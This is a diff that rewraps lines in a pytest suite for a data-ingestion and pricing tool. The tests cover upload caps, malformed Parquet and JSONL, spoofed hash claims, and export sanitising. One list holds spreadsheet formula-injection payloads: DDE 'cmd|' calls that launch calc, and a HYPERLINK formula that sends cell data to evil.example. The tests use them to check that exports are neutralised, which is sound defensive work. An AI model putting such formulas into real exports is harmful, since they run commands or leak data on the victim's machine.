@@ -55,7 +55,8 @@ def _ingest_capped(tmp_path: Path, upload: Path, timeout: float = 180) -> Measur
 
 
 def test_jsonl_whose_lines_each_bring_new_keys_is_refused_by_the_column_limit(
-        tmp_path: Path) -> None:
+    tmp_path: Path,
+) -> None:
     """Expected: a JSONL file whose records *together* have more keys than
     ``PRICEWAR_MAX_UPLOAD_COLUMNS`` (500) is refused with one line naming that limit, exit 2,
     before any frame is built, with bounded memory.
@@ -73,8 +74,7 @@ def test_jsonl_whose_lines_each_bring_new_keys_is_refused_by_the_column_limit(
             f.write(json.dumps({"text": "t", f"k{i}": ""}) + "\n")
     m = _ingest_capped(tmp_path, upload)
     out = m.stdout + m.stderr
-    print(f"\nFIGURE jsonl_spread_keys: rc {m.returncode}, {m.peak_mib:.0f} MiB, "
-          f"{m.seconds:.1f} s")
+    print(f"\nFIGURE jsonl_spread_keys: rc {m.returncode}, {m.peak_mib:.0f} MiB, {m.seconds:.1f} s")
     assert_no_traceback(out)
     assert m.returncode == 2, out[-2000:]
     assert "PRICEWAR_MAX_UPLOAD_COLUMNS" in out, out[-2000:]
@@ -85,8 +85,9 @@ def _nested_parquet(path: Path, rows: int, chars: int) -> Path:
     """A valid ``text`` column plus an extra ``junk`` column of type list<string> holding one
     ``chars``-long string per row, dictionary-encoded: a few KB of file."""
     block = 1_000
-    junk = pa.ListArray.from_arrays(pa.array(range(block + 1), pa.int32()),
-                                    pa.array(["x" * chars] * block))
+    junk = pa.ListArray.from_arrays(
+        pa.array(range(block + 1), pa.int32()), pa.array(["x" * chars] * block)
+    )
     table = pa.table({"text": [f"ticket {i}" for i in range(block)], "junk": junk})
     with pq.ParquetWriter(path, table.schema, compression="zstd", use_dictionary=True) as w:
         for _ in range(rows // block):
@@ -114,8 +115,10 @@ def test_a_nested_parquet_column_cannot_expand_past_the_memory_target(tmp_path: 
     assert upload.stat().st_size < 200_000
     m = _ingest_capped(tmp_path, upload)
     out = m.stdout + m.stderr
-    print(f"\nFIGURE nested_parquet_750mb: rc {m.returncode}, {m.peak_mib:.0f} MiB, "
-          f"{m.seconds:.1f} s, {out.strip().splitlines()[-1:]}")
+    print(
+        f"\nFIGURE nested_parquet_750mb: rc {m.returncode}, {m.peak_mib:.0f} MiB, "
+        f"{m.seconds:.1f} s, {out.strip().splitlines()[-1:]}"
+    )
     assert_no_traceback(out)
     assert "damaged" not in out, out[-2000:]
     assert m.returncode in (0, 2), out[-2000:]
@@ -139,7 +142,8 @@ def store(tmp_path: Path) -> Iterator[Store]:
 
 
 def test_a_handed_file_cannot_claim_the_hash_of_a_file_not_yet_uploaded(
-        store: Store, tmp_path: Path) -> None:
+    store: Store, tmp_path: Path
+) -> None:
     """Expected: a file uploaded directly is imported even when a hand-made inbox entry
     earlier *claimed* its SHA-256 (anyone who can write beside the database can drop one).
 
@@ -153,14 +157,15 @@ def test_a_handed_file_cannot_claim_the_hash_of_a_file_not_yet_uploaded(
     direct upload.
     """
     victim = tmp_path / "march_export.csv"
-    victim.write_text("text\nrefund please\nthe invoice is wrong\nlogin fails\n",
-                      encoding="utf-8")
+    victim.write_text("text\nrefund please\nthe invoice is wrong\nlogin fails\n", encoding="utf-8")
     digest = hashlib.sha256(victim.read_bytes()).hexdigest()
-    decoy = _hand_made(inbox_dir(store.path) / "decoy.parquet", _staged_table(["hello"]),
-                       name="decoy.csv")
+    decoy = _hand_made(
+        inbox_dir(store.path) / "decoy.parquet", _staged_table(["hello"]), name="decoy.csv"
+    )
     meta = pq.ParquetFile(decoy).schema_arrow.metadata
     table = pq.read_table(decoy).replace_schema_metadata(
-        {**meta, b"pricewar.file_hash": digest.encode()})
+        {**meta, b"pricewar.file_hash": digest.encode()}
+    )
     pq.write_table(table, decoy)
     import_inbox(store)
     [report] = ingest_files(store, [victim])
@@ -173,10 +178,14 @@ def test_a_handed_file_cannot_claim_the_hash_of_a_file_not_yet_uploaded(
 
 
 PRICING_LINKS: dict[str, tuple[dict[str, str], str]] = {
-    "reference_price_1e-300": ({"s_segments": json.dumps(
-        [["smb", 1e-300, 1000, -1.6, -1.9, -1.3]])}, "reference\\_price"),
-    "elasticity_-1e12": ({"s_segments": json.dumps(
-        [["smb", 1.0, 1000, -1e12, -1e12, -1e12]])}, "elasticity"),
+    "reference_price_1e-300": (
+        {"s_segments": json.dumps([["smb", 1e-300, 1000, -1.6, -1.9, -1.3]])},
+        "reference\\_price",
+    ),
+    "elasticity_-1e12": (
+        {"s_segments": json.dumps([["smb", 1.0, 1000, -1e12, -1e12, -1e12]])},
+        "elasticity",
+    ),
 }
 
 
@@ -229,9 +238,11 @@ def test_a_link_with_a_tiny_utilisation_is_a_note_on_price_war() -> None:
 # -- (d) exports -------------------------------------------------------------------------
 
 
-DDE_AFTER_BREAK = ["Refund please\r+ cmd|' /C calc'!A0",
-                   "Refund please\n- 1+cmd|' /C calc'!A0",
-                   "Refund please\r\n+ HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]
+DDE_AFTER_BREAK = [
+    "Refund please\r+ cmd|' /C calc'!A0",
+    "Refund please\n- 1+cmd|' /C calc'!A0",
+    'Refund please\r\n+ HYPERLINK("http://evil.example/?"&A1,"x")',
+]
 
 
 @pytest.mark.parametrize("text", DDE_AFTER_BREAK)
@@ -260,7 +271,8 @@ def test_a_list_item_that_calls_a_program_is_neutralised(text: str) -> None:
 
 
 def test_a_staging_file_named_with_a_superscript_digit_does_not_stop_the_store_opening(
-        tmp_path: Path) -> None:
+    tmp_path: Path,
+) -> None:
     """Expected: a file ``ingest-²-x.parquet`` in ``<db>.staging/`` (writable by whoever can
     write beside the database, like the inbox) is swept, or left, when a store opens for
     writing; the store opens.
@@ -318,8 +330,7 @@ def _parquet_bytes(table: pa.Table) -> bytes:
 def _raw_string_array(data: bytes) -> pa.Array:
     """A one-value string array holding ``data`` as is (Parquet does not check UTF-8)."""
     offsets = (0).to_bytes(4, "little") + len(data).to_bytes(4, "little")
-    return pa.Array.from_buffers(pa.string(), 1, [None, pa.py_buffer(offsets),
-                                                 pa.py_buffer(data)])
+    return pa.Array.from_buffers(pa.string(), 1, [None, pa.py_buffer(offsets), pa.py_buffer(data)])
 
 
 ODD_VALUES: dict[str, bytes] = {
@@ -331,16 +342,19 @@ ODD_VALUES: dict[str, bytes] = {
     "jsonl_lone_surrogate_key.jsonl": b'{"text": "a", "\\ud800": "x"}\n',
     "jsonl_lone_surrogate_channel.jsonl": b'{"text": "a", "channel": "\\udfff"}\n',
     # a Parquet string column is not checked for UTF-8 by its writer
-    "parquet_invalid_utf8.parquet": _parquet_bytes(pa.table({"text": _raw_string_array(
-        b"\xff\xfe")})),
-    "parquet_encoded_surrogate.parquet": _parquet_bytes(pa.table({"text": _raw_string_array(
-        b"\xed\xa0\x80")})),
+    "parquet_invalid_utf8.parquet": _parquet_bytes(
+        pa.table({"text": _raw_string_array(b"\xff\xfe")})
+    ),
+    "parquet_encoded_surrogate.parquet": _parquet_bytes(
+        pa.table({"text": _raw_string_array(b"\xed\xa0\x80")})
+    ),
 }
 
 
 @pytest.mark.parametrize("name", list(ODD_VALUES))
-def test_odd_values_are_located_problems_not_exceptions(store: Store, tmp_path: Path,
-                                                        name: str) -> None:
+def test_odd_values_are_located_problems_not_exceptions(
+    store: Store, tmp_path: Path, name: str
+) -> None:
     """Expected: each file is imported with the value as text, or refused as a file problem
     naming the row (one line from the CLI, exit 2; a rejection box in the app), as CSV
     already does for the same bytes ("not valid UTF-8 (byte 0xed)"); the store unchanged.
@@ -382,8 +396,9 @@ def test_a_parquet_date_beyond_the_calendar_is_refused_by_column_not_as_damaged(
     from data.errors import IngestError
     from data.ingest import stage_file
 
-    data = _parquet_bytes(pa.table({"text": ["a"],
-                                    "created_at": pa.array([2**31 - 1], pa.date32())}))
+    data = _parquet_bytes(
+        pa.table({"text": ["a"], "created_at": pa.array([2**31 - 1], pa.date32())})
+    )
     with pytest.raises(IngestError) as caught:
         stage_file(("dates.parquet", io.BytesIO(data)), name="dates.parquet")
     message = str(caught.value)
@@ -409,8 +424,7 @@ def test_a_rival_name_from_a_link_is_shown_as_text_in_the_price_war_tooltip() ->
     in the tooltip. Fix: ``{ui.md_text(cutter)}``.
     """
     competitors = json.dumps([[EVIL_RIVAL, 1.0, 0.05], ["other", 1.2, 0.05]])
-    at, _ = _open("views/price_war.py", {"s_competitors": competitors,
-                                         "s_cut_competitor": ""})
+    at, _ = _open("views/price_war.py", {"s_competitors": competitors, "s_cut_competitor": ""})
     assert not at.exception, [e.value for e in at.exception]
     helps = [str(m.proto.help) for m in at.metric if "largest cut" in str(m.proto.help)]
     assert helps, [m.label for m in at.metric]
@@ -430,8 +444,9 @@ SHARD_VALUES: dict[str, dict[str, object]] = {
 
 
 @pytest.mark.parametrize("case", list(SHARD_VALUES))
-def test_entity_shard_values_are_checked_before_they_are_loaded(store: Store, tmp_path: Path,
-                                                                 case: str) -> None:
+def test_entity_shard_values_are_checked_before_they_are_loaded(
+    store: Store, tmp_path: Path, case: str
+) -> None:
     """Expected: an entity-shard folder (named by a ``*.shards.json`` request in the inbox,
     which anyone who can write beside the database can drop, or given to ``data ingest``)
     whose entity rows are impossible is refused with an ``EntityShardError`` naming the
@@ -456,12 +471,20 @@ def test_entity_shard_values_are_checked_before_they_are_loaded(store: Store, tm
     key = store.scalar("SELECT ticket_key FROM tickets")
     folder = tmp_path / "shards"
     es.check_folder_model(folder, "model-a")
-    row: dict[str, object] = {"ticket_key": key, "model_id": "model-a", "start": 0, "end": 6,
-                              "label": "ORG", "text": "refund", "score": 0.9}
+    row: dict[str, object] = {
+        "ticket_key": key,
+        "model_id": "model-a",
+        "start": 0,
+        "end": 6,
+        "label": "ORG",
+        "text": "refund",
+        "score": 0.9,
+    }
     row.update(SHARD_VALUES[case])
     entities = pa.Table.from_pylist([row], schema=es.ENTITY_SCHEMA)
-    tagged = pa.Table.from_pylist([{"ticket_key": key, "row": 1, "source_id": None}],
-                                  schema=es.TAGGED_SCHEMA)
+    tagged = pa.Table.from_pylist(
+        [{"ticket_key": key, "row": 1, "source_id": None}], schema=es.TAGGED_SCHEMA
+    )
     es.write_shard(folder, "x", entities, tagged, {"model_id": "model-a"})
     with pytest.raises(DataError):
         es.load_entity_shards(store, folder)
